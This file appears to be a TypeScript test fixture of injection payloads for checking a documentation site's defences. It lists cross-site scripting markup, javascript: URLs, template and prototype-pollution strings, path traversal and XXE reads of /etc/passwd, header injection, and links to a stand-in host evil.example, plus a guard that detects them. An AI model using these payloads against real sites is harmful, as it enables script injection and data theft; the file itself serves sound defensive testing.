/**
 * Injection payloads: known ones, and combinations of elements, handlers and disguises. Injected elements
 * are marked with `zq9x`, and injected code calls `owned()`.
 */

const KNOWN = [
  '<script>owned()</script>',
  '<script zq9x>owned()</script>',
  '</script><script zq9x>owned()</script>',
  '"><script zq9x>owned()</script>',
  "'><script zq9x>owned()</script>",
  '</title><script zq9x>owned()</script>',
  '</textarea><script zq9x>owned()</script>',
  '--><script zq9x>owned()</script>',
  ']]><script zq9x>owned()</script>',
  '<scr<script>ipt zq9x>owned()</scr</script>ipt>',
  '<SCRIPT ZQ9X>owned()</SCRIPT>',
  '<script/zq9x/src=data:,owned()></script>',
  '<script zq9x src=//evil.example/x.js></script>',
  '<img src=x onerror=owned() zq9x>',
  '<img/src=`x`onerror=owned() zq9x>',
  '<img src=x:x onerror\u0009=owned() zq9x>',
  '<img """><script zq9x>owned()</script>">',
  '<svg/onload=owned() zq9x//',
  '<svg><script zq9x>owned()</script></svg>',
  '<svg><animate onbegin=owned() attributeName=x dur=1s zq9x>',
  '<svg><a zq9x href="javascript:owned()"><text y=20>x</text></a></svg>',
  '<math zq9x><mi xlink:href="javascript:owned()">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=owned()&gt;" zq9x>',
  '<iframe zq9x srcdoc="<script>parent.owned()</script>"></iframe>',
  '<iframe zq9x src="javascript:parent.owned()"></iframe>',
  '<object zq9x data="javascript:owned()"></object>',
  '<embed zq9x src="javascript:owned()">',
  '<base zq9x href="//evil.example/">',
  '<meta zq9x http-equiv="refresh" content="0;url=//evil.example/">',
  '<link zq9x rel=stylesheet href=//evil.example/x.css>',
  '<style zq9x>*{background:url(//evil.example/)}</style>',
  '<form zq9x action="javascript:owned()"><button autofocus>x</button></form>',
  '<input zq9x autofocus onfocus=owned()>',
  '<details zq9x open ontoggle=owned()>',
  '<video zq9x><source onerror=owned()></video>',
  '<body zq9x onload=owned()>',
  '<template zq9x><script>owned()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=owned() zq9x>">',
  '<a zq9x href="javascript:owned()" autofocus onfocus=owned()>x</a>',
  '<a zq9x href="data:text/html,<script>opener.owned()</script>">x</a>',
  'javascript:owned()',
  'JaVaScRiPt:owned()',
  'java\tscript:owned()',
  ' \u0001javascript:owned()',
  'data:text/html,<script>owned()</script>',
  'vbscript:owned()',
  '//evil.example/',
  '/\\evil.example/',
  'https://evil.example/',
  '\\\\evil.example\\x',
  'https:evil.example',
  '" onmouseover="owned()" zq9x="',
  "' onmouseover='owned()' zq9x='",
  '` onmouseover=`owned()` zq9x=`',
  '" autofocus onfocus=owned() zq9x="',
  '$' + '{owned()}',
  '{{owned()}}',
  '{{constructor.constructor("owned()")()}}',
  '<%= owned() %>',
  '#{owned()}',
  "');owned();('",
  '");owned();("',
  '`);owned();(`',
  '\\u003cscript\\u003eowned()\\u003c/script\\u003e',
  '\\x3cscript\\x3eowned()\\x3c/script\\x3e',
  '%3Cscript%3Eowned()%3C/script%3E',
  '%253Cscript%253Eowned()%253C/script%253E',
  '&lt;img src=x onerror=owned() zq9x&gt;',
  '&#60;img src=x onerror=owned() zq9x&#62;',
  '\uff1cscript\uff1eowned()\uff1c/script\uff1e',
  '+ADw-script+AD4-owned()+ADw-/script+AD4-',
  '__proto__',
  'constructor',
  'constructor.prototype.zq9x',
  '__proto__[zq9x]=owned()',
  '{"__proto__":{"zq9x":"owned()"}}',
  'toString',
  'hasOwnProperty',
  '[object Object]',
  '["<img src=x onerror=owned() zq9x>"]',
  'undefined',
  'null',
  'NaN',
  '-1',
  '1e999',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '%00',
  '\u0000<script zq9x>owned()</script>',
  '%',
  '%E0%A4%A',
  '%u003cscript%u003eowned()',
  '\ud800',
  '\u202e<script zq9x>)(denwo</script>',
  '\u2028owned()\u2029',
  '\r\nset-cookie: zq9x=1',
  '\r\n\r\n<script zq9x>owned()</script>',
  '<!--#exec cmd="ls"-->',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  '(a+)+$',
  '[[[[[[[[[[[[[[[[((((((((((((',
  '*'.repeat(500),
  'a'.repeat(3000),
  '<'.repeat(1000),
] as const;

const ELEMENTS = ['img src=x', 'svg', 'video src=x', 'body', 'input autofocus', 'a href=x', 'p', 'zq9x'];
const HANDLERS = ['onerror', 'onload', 'onfocus', 'onpointerover', 'onanimationstart'];
const DISGUISES: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => `"></mark></script></title>${markup}`,
  (markup) => markup.replaceAll(' ', '/'),
];

function generated(): string[] {
  return ELEMENTS.flatMap((element) =>
    HANDLERS.flatMap((handler) =>
      DISGUISES.map((disguise) => disguise(`<${element} ${handler}=owned() zq9x>`)),
    ),
  );
}

/** All of them; every fourth of the generated ones is found by words of the pages too. */
export const INJECTIONS: readonly string[] = [
  ...KNOWN,
  ...generated().map((text, index) => (index % 4 === 0 ? `list ${text} map` : text)),
];

/** The observations of a page's guard. */
export interface Guard {
  /** The number of times that injected code has run. */
  calls: number;
  /** The number of answers from the search worker. */
  answers: number;
  /** The addresses that have been fetched. */
  readonly fetched: Set<string>;
}

/** The globals of a guarded page. */
export type Guarded = typeof window & { guard: Guard; harmDone: () => string[]; until: typeof until };

/** Runs in a page before all other scripts: records calls of injected code, search answers and fetches. */
function guardPage(): void {
  const guard: Guard = { calls: 0, answers: 0, fetched: new Set() };
  const owned = () => guard.calls++;
  const { fetch: usualFetch, Worker: UsualWorker } = window;
  class WatchedWorker extends UsualWorker {
    /** Forwards a request and its answers, and counts the answers. */
    override postMessage(request: unknown, transfer?: Transferable[] | StructuredSerializeOptions): void {
      const [asking] = Array.isArray(transfer) ? transfer : [];
      if (!(asking instanceof MessagePort)) {
        super.postMessage(request);
        return;
      }
      const { port1: answering, port2 } = new MessageChannel();
      asking.onmessage = ({ data }) => answering.postMessage(data);
      answering.onmessage = ({ data }) => {
        guard.answers++;
        asking.postMessage(data);
      };
      super.postMessage(request, [port2]);
    }
  }
  const watchedFetch = async (...[request, options]: Parameters<typeof fetch>) => {
    const response = await usualFetch(request, options);
    guard.fetched.add(new URL(response.url).pathname);
    return response;
  };
  Object.assign(window, { guard, owned, alert: owned, confirm: owned, prompt: owned });
  Object.assign(window, { Worker: WatchedWorker, fetch: watchedFetch });
}

/** Runs in a page: waits for a condition for at most three seconds; resolves to whether it became true. */
async function until(condition: () => boolean): Promise<boolean> {
  for (const end = performance.now() + 3000; performance.now() < end; ) {
    if (condition()) return true;
    await new Promise((resolve) => setTimeout(resolve, 2));
  }
  return false;
}

/** The script that guards a page. */
export const GUARD = `(${guardPage})(); window.harmDone = ${harmDone}; window.until = ${until};`;

/** Runs in a page: the effects of an injection; empty if there are none. */
function harmDone(): string[] {
  const { guard } = window as unknown as { guard: { calls: number } };
  const signs =
    '[zq9x], zq9x, [onerror], [onload], [onfocus], [onpointerover], [onmouseover], [onanimationstart], [ontoggle], ' +
    'iframe, object, embed, base, frame, math, meta[http-equiv], [src^="data:"], [href*="//evil.example"], ' +
    '[href^="javascript:" i], [action^="javascript:" i], script:not([src]):not([type]) ~ script:not([src]):not([type])';
  const found = [...document.querySelectorAll(signs)].map((element) => element.outerHTML.slice(0, 120));
  const { syntax = '', theme = '' } = document.documentElement.dataset;
  return [
    ...found,
    ...(guard.calls > 0 ? [`${guard.calls} calls`] : []),
    ...('zq9x' in {} ? ['a polluted prototype'] : []),
    ...(/^(jsligo|cameligo)$/.test(syntax) ? [] : [`the syntax '${syntax}'`]),
    ...(/^(dark|light)$/.test(theme) ? [] : [`the theme '${theme}'`]),
  ];
}
